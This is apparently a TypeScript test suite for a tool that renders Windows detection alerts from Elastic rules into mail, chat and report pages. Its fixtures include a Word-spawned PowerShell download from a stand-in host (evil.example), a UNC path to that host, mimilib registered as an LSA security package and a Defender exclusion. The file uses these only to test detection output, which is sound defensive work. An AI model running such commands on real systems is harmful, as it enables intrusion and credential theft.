import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../functions/alert/eql/index.ts';
import { readField } from '../../functions/alert/logs/decoding/read-field.ts';
import { renderAlert, renderReport } from '../../functions/alert/notification/index.ts';
import { lockedVersions } from '../../functions/alert/pipeline/locked-versions.ts';
import { sha256 } from '../../functions/alert/pipeline/scan-log.ts';
import { type Rule, readRule } from '../../functions/alert/ruleset/index.ts';
import { alertOf, OPTIONS, RUN_KEY, runKeyEvent, USER_SID, writeEvent } from './fixture.ts';
import { readPage } from './html-reader.ts';

const OPEN_RULES = '../shared/data/detection-rules';
const HAS_OPEN_RULES = existsSync(`${OPEN_RULES}/list.json`);
if (!HAS_OPEN_RULES) console.warn(`SKIPPED: the open rules of Elastic are not at ${OPEN_RULES}`);

const deps = { readField, sha256: (text: string) => sha256(text) };

/** Everything that a reader of an alert is shown, by carrier and language. */
function carriersOf(event: JsonObject, rule: Rule): readonly (readonly [carrier: string, text: string])[] {
  const alert = alertOf(event, {}, rule);
  return (['en', 'zh-CN'] as const).flatMap(locale => {
    const options = { ...OPTIONS, locale };
    const { subject, email, https } = renderAlert(alert, options);
    const bare = renderAlert(alert, { ...options, archiveBucket: undefined }).email;
    const page = readPage(renderReport(alert, options)).text;
    return [
      [`${locale} subject`, subject],
      [`${locale} mail`, email],
      [`${locale} mail without an archive`, bare],
      [`${locale} chat`, Object.values(JSON.parse(https).content).flat().join('\n')],
      [`${locale} page`, page],
    ] as const;
  });
}

/** What holds for every rule: no placeholder, WMI only where it wrote, every group of every provider accounted for. */
function check(event: JsonObject, rule: Rule): void {
  const text = JSON.stringify(event);
  for (const [carrier, shown] of carriersOf(event, rule)) {
    expect([carrier, shown]).toEqual([carrier, expect.not.stringMatching(/\{\{|\}\}|undefined|\[object/)]);
    const ours = shown.replaceAll(/T1047[^|\n]*(\n[^|\n]*)?/g, '');
    if (
      !/wmiprvse/i.test(text) &&
      !/WMI/.test(rule.queryText + JSON.stringify([rule.guides, rule.name, rule.description]))
    )
      expect([carrier, ours]).toEqual([carrier, expect.not.stringMatching(/WMI|WmiPrvSE|winmgmt/)]);
    if (!/subject|chat/.test(carrier))
      expect(shown).toMatch(new RegExp(`(version|版本)\\s+${rule.version}\\b`));
    if (!carrier.includes('page')) continue;
    const flat = shown.replaceAll(/\s+/g, '');
    for (const reference of rule.references) expect(flat).toContain(reference.replaceAll(/\s+/g, ''));
    const queries = (rule.guides.en?.sections ?? []).flatMap(({ steps }) =>
      steps.flatMap(({ query }) => query ?? []),
    );
    for (const { label, investigate } of queries) {
      expect(flat).toContain(label.replaceAll(/\s+/g, ''));
      for (const group of investigate?.groups ?? []) {
        const fields = Array.from(group.matchAll(/\{\{([^}]+)\}\}/g), match => match[1]!);
        const [fixed = ''] = group.split('{{');
        const isThere =
          flat.includes(fixed.replaceAll(/\s+/g, '')) || fields.some(field => flat.includes(field));
        expect([label, group, isThere]).toEqual([label, group, true]);
      }
    }
  }
}

describe.skipIf(!HAS_OPEN_RULES)('the open rules of Elastic, each with its event', () => {
  const list = HAS_OPEN_RULES
    ? (JSON.parse(readFileSync(`${OPEN_RULES}/list.json`, 'utf8')) as { stem: string; version: number }[])
    : [];
  const versions = HAS_OPEN_RULES ? lockedVersions(OPEN_RULES) : new Map<string, number>();
  it.each(list)('$stem', { timeout: 60_000 }, ({ stem, version }) => {
    const files = new Map([['rule.toml', readFileSync(`${OPEN_RULES}/${stem}/rule.toml`, 'utf8')]]);
    const rule = readRule(stem, files, { ...deps, lockedVersions: versions });
    expect(rule.version).toBe(version);
    const events = (name: string) =>
      readFileSync(`${OPEN_RULES}/${stem}/${name}.ndjson`, 'utf8')
        .split('\n')
        .filter(line => line.trim() !== '')
        .map(line => JSON.parse(line) as JsonObject);
    for (const event of events('match')) check(event, rule);
    for (const event of events('quiet')) expect(rule.query.matches(event)).toBe(false);
  });
});

const foreign = (name: string): Rule =>
  readRule(
    name,
    new Map([['rule.toml', readFileSync(`test/rules/foreign/${name}/rule.toml`, 'utf8')]]),
    deps,
  );

/** A rule of our own wording, in Elastic's form. */
function made(query: string, more = '', transform = ''): Rule {
  const text = `
[rule]
rule_id = "11111111-2222-4333-8444-555555555555"
name = "A Made Rule"
description = "Finds something."
type = "eql"
index = ["logs-*"]
severity = "medium"
risk_score = 47
version = 7
references = ["https://example.com/made"]
query = '''${query}'''
${more}
${transform}
`;
  return readRule('made', new Map([['rule.toml', text]]), deps);
}

const REG = {
  name: 'reg.exe',
  pid: 77,
  entity_id: 'cmVn',
  executable: 'C:\\Windows\\System32\\reg.exe',
  command_line: 'reg add HKCU\\Run /v x',
  hash: { sha256: 'AB'.repeat(32) },
};

/** A write by a program of its own. */
function byReg(write: Parameters<typeof writeEvent>[0]): JsonObject {
  const { Effective_process: _, ...event } = writeEvent(write, { process: REG });
  return event;
}

const mailOf = (event: JsonObject, rule: Rule): string =>
  renderAlert(alertOf(event, {}, rule), OPTIONS).email;
const pageOf = (event: JsonObject, rule: Rule): string =>
  readPage(renderReport(alertOf(event, {}, rule), OPTIONS)).text;

describe('an investigate block', () => {
  const button = (from: string, to: string, ...groups: string[][]) => `
[[transform.investigate]]
label = "What the writer did"
providers = [${groups.map(
    fields =>
      `[${fields.map(field => `{ excluded = false, field = "${field}", queryType = "phrase", value = "{{${field}}}", valueType = "string" }`).join(', ')}]`,
  )}]
relativeFrom = "${from}"
relativeTo = "${to}"
`;
  const rule = (...parameters: Parameters<typeof button>) =>
    made(
      'registry where true',
      "note = '''## Triage\n\n- Look around. $investigate_0\n'''",
      button(...parameters),
    );
  const event = byReg({ key: `${USER_SID}\\${RUN_KEY}`, value: 'x" or *' });

  it.each([
    ['its range, which stays open at now', 'now-48h/h', 'now', '@timestamp >= "2026-11-22T02:00:00.000Z"\n'],
    [
      'its end',
      'now-1h',
      'now+2h',
      '@timestamp >= "2026-11-24T01:46:51.283Z" and @timestamp <= "2026-11-24T04:46:51.283Z"\n',
    ],
  ])('keeps %s', (_, from, to, range) => {
    const mail = mailOf(event, rule(from, to, ['host.id']));
    expect(mail).toContain(
      `What the writer did (KQL, logs-*)\n    host.id : "5f1c7d0a-3a52-4b0e-9a53-6e6b0a2f9b11" and ${range}`,
    );
  });
  it('has each group, and names the fields that the event does not have', () => {
    const mail = mailOf(
      event,
      rule('now-1h', 'now', ['host.id', 'registry.value'], ['process.pid'], ['dll.name', 'host.id']),
    );
    expect(mail).toContain(
      '((host.id : "5f1c7d0a-3a52-4b0e-9a53-6e6b0a2f9b11" and registry.value : "x\\" or *") or (process.pid : "77"))',
    );
    expect(mail.replaceAll(/\s+/g, ' ')).toContain(
      'What the writer did: left out where it asks for dll.name, which the event does not have.',
    );
  });
  it('is not there where nothing of it can be filled in, and that is said', () => {
    const mail = mailOf(event, rule('now-1h', 'now', ['dll.name']));
    expect(mail).not.toContain('dll.name :');
    expect(mail.replaceAll(/\s+/g, ' ')).toContain('left out where it asks for dll.name');
  });
  it('and a block of Osquery has the value as one literal, within quotes or without', () => {
    const query = made(
      'registry where true',
      `note = '''## Triage\n\n- !{osquery{"label":"Rows","query":"SELECT 1 FROM t WHERE a = {{registry.value}} AND b LIKE '%{{ registry.value }}%'"}}\n'''`,
    );
    const odd = byReg({ key: `${USER_SID}\\${RUN_KEY}`, value: "it's" });
    expect(mailOf(odd, query)).toContain("SELECT 1 FROM t WHERE a = 'it''s' AND b LIKE '%it''s%'");
  });
});

const processEvent: JsonObject = {
  ...byReg({ key: 'x', value: 'y' }),
  registry: undefined!,
  event: { category: ['process'], type: ['start'], action: 'start' },
  process: {
    ...REG,
    name: 'powershell.exe',
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    command_line: 'powershell -nop -c "iwr evil.example"',
    args_count: 4,
    parent: {
      name: 'winword.exe',
      executable: 'C:\\Office\\winword.exe',
      pid: 5,
      command_line: 'winword a.docx',
    },
  },
};
const { registry: _, ...ran } = processEvent;
const act = (category: string, more: JsonObject): JsonObject => ({
  ...ran,
  event: { category: [category], type: ['start'] },
  process: REG,
  ...more,
});

describe('an event that is no registry event has a first screen of its own', () => {
  it.each([
    [
      'what ran',
      ran,
      /^Ran +powershell -nop -c "iwr evil\[\.\]example"\n[\s\S]*^Initiated by +C:\\Office\\winword\.exe \(pid 5\);[\s\S]*winword a\.docx/m,
    ],
    [
      'what was loaded',
      act('library', { dll: { path: 'C:\\T\\a.dll', name: 'a.dll' } }),
      /^Loaded +C:\\T\\a\.dll\n[\s\S]*^Initiated by +C:\\Windows\\System32\\reg\.exe/m,
    ],
    [
      'where it connected',
      act('network', { destination: { ip: '203.0.113.9', port: 443 } }),
      /^Connected +203\[\.\]0\[\.\]113\[\.\]9:443\n/m,
    ],
    [
      'what was written',
      act('file', { file: { path: 'C:\\T\\x.exe', name: 'x.exe' } }),
      /^File +C:\\T\\x\.exe\n/m,
    ],
    [
      'what happened',
      act('authentication', { event: { category: ['authentication'], action: 'logon' } }),
      /^Event +logon\n/m,
    ],
  ])('%s', (_name, event, screen) => {
    const rule = made('any where true');
    const mail = mailOf(event, rule);
    expect(mail).toMatch(screen);
    // Of a registry nothing is said, and what has no answer is not asked.
    expect(mail).not.toMatch(/^Value|^ {2}(RAN|THERE) |REG_|\(THERE\)|no data in the event|default value/m);
    check(event, rule);
  });
  it('asks for the hash, here and elsewhere', () => {
    const mail = mailOf(ran, foreign('office-starts-script-host'));
    expect(mail).toContain(`process.hash.sha256 : "${'ab'.repeat(32)}" and not host.id`);
    expect(mail).toContain(`https://www.virustotal.com/gui/file/${'ab'.repeat(32)}`);
    expect(mail).toContain('process.parent.executable == "C:\\\\Office\\\\winword.exe"');
  });
});

describe('a wrong statement that was seen', () => {
  const any = made('registry where true');
  const run = { key: `${USER_SID}\\${RUN_KEY}`, value: 'x' };
  it('a nameless value is the default value for certain', () => {
    const mail = mailOf(byReg({ ...run, value: '' }), any);
    expect(mail).toContain('one hidden behind NUL');
    expect(mail.replaceAll(/\s+/g, ' ')).toContain('can be read only from a saved hive');
    expect(renderAlert(alertOf(byReg({ ...run, value: '' }), {}, any), OPTIONS).subject).not.toContain(
      'Default',
    );
    // Sysmon has that name for the default value; Windows has none.
    expect(mailOf(byReg({ ...run, value: '(Default)' }), any)).toContain("GetValue('', $null");
  });
  it('pattern 1 of 0', () => {
    const two = made('registry where registry.path : "*Run*" and registry.path : ("*x", "*y")');
    const page = pageOf(byReg(run), two);
    expect(page).toContain('registry.path fits');
    expect(page).not.toMatch(/pattern \d+ of/);
  });
  it.each([
    ['\\\\127.0.0.1\\C$\\x.exe', false],
    ['\\\\localhost\\C$\\x.exe', false],
    ['\\\\FIN-WS-042\\C$\\x.exe', false],
    ['\\\\evil.example\\C$\\x.exe', true],
    ['\\\\127.0.0.1.evil.example\\C$\\x.exe', true],
  ])('%s is another machine: %s', (path, isOther) => {
    expect(mailOf(byReg({ ...run, strings: [path] }), any).includes('Do not open this network path')).toBe(
      isOther,
    );
  });
  it('the first strings of a list, where another one was added', () => {
    const strings = ['kerberos', 'msv1_0', 'schannel', 'wdigest', 'tspkg', 'pku2u', 'mimilib'];
    const lsa = {
      key: 'SYSTEM\\ControlSet001\\Control\\Lsa',
      value: 'Security Packages',
      hive: 'HKLM',
      type: 'REG_MULTI_SZ',
      strings,
    };
    expect(mailOf(byReg(lsa), any)).toMatch(/^Written +mimilib\n/m);
    const wanted = made('registry where registry.data.strings : ("wdig*", "x")');
    expect(mailOf(byReg(lsa), wanted)).toMatch(/^Written +wdigest\n/m);
  });
  it('a folder is a program, and a DLL starts a process', () => {
    const folder = byReg({
      ...run,
      key: `${USER_SID}\\Software\\X`,
      strings: ['C:\\Users\\Public\\Startup'],
    });
    expect(mailOf(folder, any)).not.toMatch(/process\.(name|executable)\.caseless : "(C:.*)?Startup"/);
    const dll = byReg({
      ...run,
      key: `${USER_SID}\\Software\\X`,
      strings: ['%SystemRoot%\\System32\\np.dll'],
    });
    expect(mailOf(dll, any)).toContain('dll.path : "C:\\\\Windows\\\\System32\\\\np.dll"');
  });
  it("the query's text, cut, is why it matched", () => {
    const long = made(
      `registry where registry.value == "x" and (${Array.from({ length: 20 }, (_, at) => `registry.value == "x" or process.name == "name-${at}"`).join(' or ')})`,
    );
    const page = pageOf(byReg(run), long);
    expect(page.replaceAll(/\s+/g, ' ')).toContain(
      'further conditions, as the query of the rule has them: 1',
    );
  });
  it('the writer, where a requester is recorded', () => {
    const asked = runKeyEvent({
      process: { ...REG, name: 'svchost.exe', executable: 'C:\\Windows\\System32\\svchost.exe' },
    });
    expect(mailOf(asked, any)).toMatch(/^Initiated by +wmic\.exe \(pid 6120\), on this host/m);
  });
  it('a name in angle brackets is HTML', () => {
    const guide = made('registry where true', "note = '''## Triage\n\n- Look at HKU\\\\<SID>\\\\Run.\n'''");
    expect(mailOf(byReg(run), guide)).toContain('HKU\\\\<SID>\\\\Run');
  });
  it('a setting runs nothing, so it is administration', () => {
    const setting = byReg({
      key: 'SYSTEM\\ControlSet001\\Control\\Lsa',
      value: 'RunAsPPL',
      hive: 'HKLM',
      type: 'REG_DWORD',
      strings: ['0'],
    });
    expect(mailOf(setting, any)).not.toMatch(/ADMINISTRATION|runs nothing/);
  });
});

describe('a write by a program', () => {
  const event = byReg({ key: `${USER_SID}\\${RUN_KEY}`, value: 'x' });
  const rule = made(
    'registry where true',
    `setup = '''## Setup\n\nTurn it on.\n'''\n[rule.investigation_fields]\nfield_names = ["process.command_line", "user.name", "dll.name"]\n`,
  );
  it('names it as the initiator, with its path, command line, account and hash', () => {
    const mail = mailOf(event, rule);
    expect(mail).toMatch(
      /^Initiated by +C:\\Windows\\System32\\reg\.exe \(pid 77\);[\s\S]*?SYSTEM\n +reg add HKCU/m,
    );
    expect(mail).toContain('With which command line, and who started that process?');
    expect(mail).toContain(`https://www.virustotal.com/gui/file/${'ab'.repeat(32)}`);
    check(event, rule);
  });
  it('has the fields that the rule puts first, its setup and its references in the report', () => {
    const page = pageOf(event, rule);
    expect(page).toMatch(
      /All facts of the event\s*process\.command_line\s*reg add HKCU\\Run \/v x\s*user\.name\s*SYSTEM\s*not in the event\s*dll\.name/,
    );
    expect(page).toContain('Turn it on.');
    expect(page).toContain('https://example.com/made');
  });
  it('is shown for every rule of another wording', () => {
    const exclusion = {
      key: 'SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths',
      value: 'C:\\T',
      hive: 'HKLM',
      strings: ['0'],
      type: 'REG_DWORD',
    };
    check(byReg(exclusion), foreign('defender-exclusion-added'));
  });
});
